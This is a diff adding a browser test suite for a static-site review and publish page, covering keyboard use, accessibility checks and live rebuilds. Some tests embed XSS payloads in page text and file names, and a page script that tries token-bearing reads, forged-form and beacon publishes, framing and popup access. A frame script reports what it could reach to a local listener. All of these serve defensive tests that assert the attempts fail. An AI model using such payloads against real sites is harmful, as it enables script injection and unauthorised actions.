@@ -1,0 +1,310 @@
+import { once } from 'node:events'
+import { createRequire } from 'node:module'
+import { readFileSync } from 'node:fs'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { hasBrowser, until, type BrowserContext, type Page } from '@sitedrive/testing'
+import { describe, expect, onTestFinished, test } from 'vitest'
+import { openLiveServer } from '../../src/live/live-server.js'
+import { localFeed } from '../../src/live/local-feed.js'
+import { contexts } from '../live/support/contexts.js'
+import { reviewSite, type ReviewSite } from './support/review-site.js'
+
+const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
+
+const page = (title: string, body: string) =>
+  `<!doctype html><html lang="en"><head><title>${title}</title></head><body><h1>${title}</h1>${body}</body></html>`
+const picture = (color: string) =>
+  `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"><rect width="40" height="30" fill="${color}"/></svg>`
+
+const SITE = {
+  released: {
+    'index.html': page('Home', '<p>Welcome to the sea.</p>'),
+    'one/index.html': page(
+      'The first post',
+      '<p>A long afternoon at the sea.</p><p>And a second paragraph.</p>'
+    ),
+    'gone/index.html': page('An old note', '<p>Old words.</p>'),
+    'boat.svg': picture('teal'),
+    'style.css': 'p { color: black }\n'
+  },
+  now: {
+    'one/index.html': page(
+      'The first post',
+      '<p>A long evening at the sea.</p><p>And a second paragraph.</p><p><a href="/nowhere/">More</a></p>'
+    ),
+    'gone/index.html': null,
+    'two/index.html': page('The second post', '<p>New words.</p>'),
+    'boat.svg': picture('tomato'),
+    'style.css': 'p { color: navy }\n'
+  },
+  build: ({ dir }: { dir: string }) => ({ dir })
+}
+
+const MOD = {
+  wide: { viewport: { width: 1280, height: 800 } },
+  narrow: { viewport: { width: 390, height: 800 } }
+}
+
+async function open(context: BrowserContext, site: ReviewSite): Promise<Page> {
+  const tab = await context.newPage()
+  const errors: string[] = []
+  tab.on('pageerror', (error) => errors.push(error.message))
+  tab.on('console', (message) => void (message.type() === 'error' && errors.push(message.text())))
+  onTestFinished(() => expect(errors).toEqual([]))
+  await tab.goto(site.url)
+  await tab.locator('.list').waitFor()
+  return tab
+}
+
+/** What axe finds wrong. */
+async function faults(tab: Page): Promise<string[]> {
+  const found = await tab.evaluate(
+    `(() => { ${axe}; return axe.run(document, { iframes: false, resultTypes: ['violations'] }) })()`
+  )
+  const { violations } = found as { violations: { id: string; nodes: { html: string }[] }[] }
+  return violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`)
+}
+
+describe.skipIf(!hasBrowser)('the review page in a browser', { timeout: 90_000 }, () => {
+  const context = contexts()
+
+  test('is worked by keyboard, from the first change to the new release', async () => {
+    const site = await reviewSite(SITE)
+    const tab = await open(await context(MOD.wide), site)
+    await tab.getByRole('heading', { name: '1 added, 3 changed, 1 removed' }).waitFor()
+    await tab.getByText('leads nowhere').waitFor()
+    expect(site.viewers).toBe(1)
+
+    await tab.keyboard.press('j')
+    await tab.getByRole('heading', { name: 'The second post' }).waitFor()
+    await tab.getByText('New words.').waitFor()
+    await tab.keyboard.press('ArrowDown')
+    await tab.getByRole('heading', { name: 'The first post' }).waitFor()
+    const prose = tab.locator('.prose')
+    await until(async () => (await prose.locator('ins').allTextContents()).includes('evening'))
+    expect(await prose.locator('del').allTextContents()).toContain('afternoon')
+
+    await tab.keyboard.press('d')
+    await tab.locator('.lines').getByText('<p>A long ').first().waitFor()
+    await tab.keyboard.press('b')
+    const [before, after] = [tab.frameLocator('iframe >> nth=0'), tab.frameLocator('iframe >> nth=1')]
+    await before.getByText('A long afternoon').waitFor()
+    await after.getByText('A long evening').waitFor()
+    await tab.keyboard.press('k')
+    await tab.keyboard.press('Enter')
+    expect(await tab.evaluate('document.activeElement.getAttribute("aria-label")')).toBe('The second post')
+
+    await tab.keyboard.press('p')
+    await tab.getByRole('dialog').getByText('is published as it is').waitFor()
+    await tab.keyboard.press('Enter')
+    await tab.getByRole('heading', { name: 'Release 2 is published' }).waitFor()
+    await tab.getByRole('dialog').locator('code', { hasText: 'hyper://' }).waitFor()
+    await tab.keyboard.press('Escape')
+    await tab.keyboard.press('k')
+    await tab.getByRole('heading', { name: 'Nothing to publish' }).waitFor()
+
+    await tab.keyboard.press('h')
+    await tab.getByRole('button', { name: 'Go back to release 1' }).click()
+    await tab.getByRole('dialog').getByRole('button', { name: 'Go back to release 1' }).click()
+    await tab.getByRole('heading', { name: 'Release 3: release 1 again' }).waitFor()
+  })
+
+  test('follows what is built, without a reload', async () => {
+    const site = await reviewSite({ ...SITE, now: null })
+    const tab = await open(await context(MOD.wide), site)
+    await tab.getByRole('heading', { name: 'Waiting for the first build' }).waitFor()
+    site.preview.building()
+    await tab.getByText('Building…').waitFor()
+    await site.update(SITE.now)
+    await tab.getByRole('heading', { name: '1 added, 3 changed, 1 removed' }).waitFor()
+    await site.preview.failed({ message: 'no such filter: slug', file: './index.njk', line: 3 })
+    await tab.getByText('no such filter: slug').waitFor()
+    await tab.getByText('./index.njk:3').waitFor()
+    await site.update({ 'three.html': page('Three', '') })
+    await tab.getByRole('heading', { name: '2 added, 3 changed, 1 removed' }).waitFor()
+    expect(await tab.locator('.row').count()).toBe(7)
+  })
+
+  test.each([
+    ['wide', 'light'],
+    ['narrow', 'dark']
+  ] as const)('has nothing that axe finds, %s and %s', async (width, colorScheme) => {
+    const site = await reviewSite(SITE)
+    const tab = await open(await context({ ...MOD[width], colorScheme, reducedMotion: 'reduce' }), site)
+    const check = async (state: string) =>
+      expect(await faults(tab), `${state}, ${width}, ${colorScheme}`).toEqual([])
+    const choose = async (name: string) => {
+      await tab
+        .locator('.back')
+        .click({ trial: true, timeout: 200 })
+        .then(
+          () => tab.locator('.back').click(),
+          () => {}
+        )
+      await tab.locator('.row', { hasText: name }).click()
+    }
+    await choose('Overview')
+    await tab.getByText('leads nowhere').waitFor()
+    await check('overview')
+    await choose('The first post')
+    await tab.locator('.prose ins').first().waitFor()
+    await check('words')
+    await tab.keyboard.press('d')
+    await tab.locator('.lines').waitFor()
+    await check('lines')
+    await tab.keyboard.press('b')
+    await tab.locator('iframe').first().waitFor()
+    await check('before and after')
+    await choose('boat.svg')
+    await tab.getByText('40 × 30').first().waitFor()
+    await check('pictures')
+    for (const [key, heading] of [
+      ['?', 'Keyboard shortcuts'],
+      ['p', 'Publish all']
+    ] as const) {
+      await tab.keyboard.press(key)
+      await tab.getByRole('dialog').getByRole('heading', { name: heading }).waitFor()
+      await check(heading)
+      await tab.keyboard.press('Escape')
+    }
+    await tab.keyboard.press('h')
+    await tab.locator('.releases li').first().waitFor()
+    await check('history')
+    const late = await (await context({ ...MOD[width], colorScheme })).newPage()
+    await late.goto(site.url.replace(/#.*/, '#another'))
+    await late.getByText('not valid any more').waitFor()
+    expect(await faults(late)).toEqual([])
+  })
+
+  test('has nothing that axe finds while a publish runs, when it has failed, and when it is done', async () => {
+    const script = `import { existsSync } from 'node:fs'; console.log('working'); while (!existsSync('go')) await new Promise((r) => setTimeout(r, 20)); process.exit(1)`
+    const command = `"${process.execPath}" build.mjs`
+    const site = await reviewSite({ ...SITE, build: { command } })
+    site.writeProject({ 'build.mjs': script })
+    const tab = await open(await context({ ...MOD.wide, reducedMotion: 'reduce' }), site)
+    await tab.keyboard.press('p')
+    await tab.keyboard.press('Enter')
+    await tab.getByRole('dialog').getByText('working').waitFor()
+    expect(await faults(tab)).toEqual([])
+    site.writeProject({ go: '' })
+    await tab.getByRole('heading', { name: 'Not published' }).waitFor()
+    expect(await faults(tab)).toEqual([])
+  })
+
+  test('shows text as text, whatever it is', async () => {
+    const evil = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>'
+    const site = await reviewSite({
+      released: { 'a/index.html': page('Old', '<p>one</p>') },
+      now: {
+        'a/index.html': `<!doctype html><title>${evil.replaceAll('<', '&lt;')}</title><p>${evil.replaceAll('<', '&lt;')}</p><a href="/&lt;img src=x onerror=window.pwned=1&gt;">x</a>`,
+        '<img src=x onerror=window.pwned=1>.html': '<p>x</p>',
+        "x';window.pwned=1;'.css": 'x'
+      },
+      build: ({ dir }) => ({ dir })
+    })
+    const tab = await open(await context(MOD.wide), site)
+    for (const row of await tab.locator('.row').all()) {
+      await row.click()
+      for (const key of ['d', 'b', 'b', 'd']) await tab.keyboard.press(key)
+    }
+    await site.preview.failed({ message: evil, file: evil })
+    await tab.locator('.row', { hasText: 'Overview' }).click()
+    await tab.locator('.callout pre', { hasText: 'onerror' }).waitFor()
+    expect(await tab.evaluate('window.pwned ?? null')).toBe(null)
+    expect(await tab.locator('#app img[src="x"], #app script').count()).toBe(0)
+  })
+
+  test('is nothing that a page of the previewed site can read, frame, or publish from', async () => {
+    // It even knows the token.
+    const site = await reviewSite({ ...SITE, now: { ...SITE.now } })
+    const server = await openLiveServer({ feed: localFeed(site.preview as never), port: 0 })
+    onTestFinished(() => server.close())
+    const origin = `http://review.localhost:${site.port}`
+    const attack = `
+      const told = {}
+      const note = (name, deed) => Promise.resolve().then(deed).then((value) => { told[name] = 'done ' + value }, () => { told[name] = 'refused' })
+      const headers = { 'sitedrive-token': '${site.token}' }
+      const body = JSON.stringify({ command: null })
+      const form = document.createElement('form'); form.method = 'post'; form.action = '${origin}/api/publish'; form.target = 'f'; form.enctype = 'text/plain'
+      form.innerHTML = '<input name=\\'{"command":null,"x":"\\' value=\\'"}\\'>'
+      const f = document.createElement('iframe'); f.name = 'f'; document.body.append(f, form); form.submit()
+      const framed = document.createElement('iframe'); framed.src = '${site.url}'; document.body.append(framed)
+      await Promise.all([
+        note('read', async () => (await fetch('${origin}/api/review', { headers })).text()),
+        note('opaque', async () => (await fetch('${origin}/api/review', { mode: 'no-cors' })).text().then((t) => t.slice(0, 50) || Promise.reject())),
+        note('publish', async () => (await fetch('${origin}/api/publish', { method: 'POST', headers: { ...headers, 'content-type': 'application/json' }, body })).status),
+        note('simple', async () => { await fetch('${origin}/api/publish', { method: 'POST', mode: 'no-cors', body }); return Promise.reject() }),
+        note('beacon', async () => { navigator.sendBeacon('${origin}/api/publish', new Blob([body], { type: 'text/plain' })); return Promise.reject() }),
+        note('script', () => new Promise((yes, no) => { const s = document.createElement('script'); s.src = '${origin}/page.js'; s.onload = yes; s.onerror = no; document.body.append(s) })),
+        note('style', () => new Promise((yes, no) => { const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = '${origin}/page.css'; s.onload = yes; s.onerror = no; document.body.append(s) })),
+        note('popup', () => new Promise((yes, no) => { const w = open('${site.url}', 'w'); setTimeout(() => { try { yes(w.document.title) } catch { no() } }, 800) }))
+      ])
+      await new Promise((r) => setTimeout(r, 300))
+      window.told = told
+    `
+    await site.update({
+      'evil.html': `<!doctype html><title>E</title><body><script type="module">${attack}</script></body>`
+    })
+    const browser = await context(MOD.wide)
+    const tab = await browser.newPage()
+    await tab.goto(new URL('/evil.html', server.url).href)
+    await tab.waitForFunction('window.told', null, { timeout: 30_000 })
+    const told = (await tab.evaluate('window.told')) as Record<string, string>
+    expect(Object.entries(told).filter(([, what]) => what !== 'refused')).toEqual([])
+    expect(Object.keys(told).length).toBe(8)
+    for (const framed of tab.frames().slice(1)) expect(await framed.content()).not.toContain('id="app"')
+    const { last } = await site.call.review()
+    expect(last?.release).toBe(1)
+    const events = site.call.events()
+    await until(() => events.seen.some(({ kind }) => kind === 'run'))
+    expect(events.run()).toBe(null)
+  })
+
+  test('lets a page in its frames reach neither the review nor the other side', async () => {
+    const told: string[] = []
+    // A page of the web that listens.
+    const listener = createServer((req, res) => {
+      told.push(req.url ?? '')
+      res.writeHead(200, { 'access-control-allow-origin': '*' }).end()
+    }).listen(0, '127.0.0.1')
+    onTestFinished(() => void listener.close())
+    await once(listener, 'listening')
+    const { port } = listener.address() as AddressInfo
+    const site = await reviewSite({ ...SITE, now: {} })
+    const attack = `const tell = (what) => fetch('http://127.0.0.1:${port}/' + what, { mode: 'no-cors' })
+      const out = []
+      try { out.push('parent-' + parent.document.title) } catch { out.push('no-parent') }
+      try { out.push('top-' + top.location.href) } catch { out.push('no-top') }
+      try { localStorage.x = 1; out.push('storage') } catch { out.push('no-storage') }
+      try { top.location = 'http://127.0.0.1:${port}/moved' } catch { out.push('no-move') }
+      fetch('http://review.localhost:${site.port}/api/review').then(() => out.push('api'), () => out.push('no-api')).then(() => tell(out.join('_')))`
+    await site.update({ 'evil.html': `<!doctype html><title>E</title><p>evil</p><script>${attack}</script>` })
+    const tab = await (await context(MOD.wide)).newPage()
+    await tab.goto(site.url)
+    await tab
+      .locator('.row', { hasText: 'evil' })
+      .or(tab.locator('.row', { hasText: '/E' }))
+      .or(tab.locator('.row', { hasText: 'E' }))
+      .nth(1)
+      .click()
+    await tab.keyboard.press('b')
+    await until(() => told.length > 0, { describe: () => told.join() })
+    expect(told).toEqual(['/no-parent_no-top_no-storage_no-move_no-api'])
+    expect(tab.url()).toBe(site.url)
+  })
+
+  test('makes no more rows than are looked at, and further ones on the way down', async () => {
+    const many = Object.fromEntries(Array.from({ length: 1_200 }, (_, n) => [`p/${n}.txt`, String(n)]))
+    const site = await reviewSite({ released: null, now: many })
+    const tab = await open(await context(MOD.wide), site)
+    await tab.getByRole('heading', { name: 'The first publish' }).waitFor()
+    expect(await tab.locator('.row').count()).toBeLessThan(500)
+    await until(async () => {
+      await tab.locator('.list').evaluate((list: { scrollTop: number; scrollHeight: number }) => {
+        list.scrollTop = list.scrollHeight
+      })
+      return (await tab.locator('.row').count()) > 500
+    })
+  })
+})
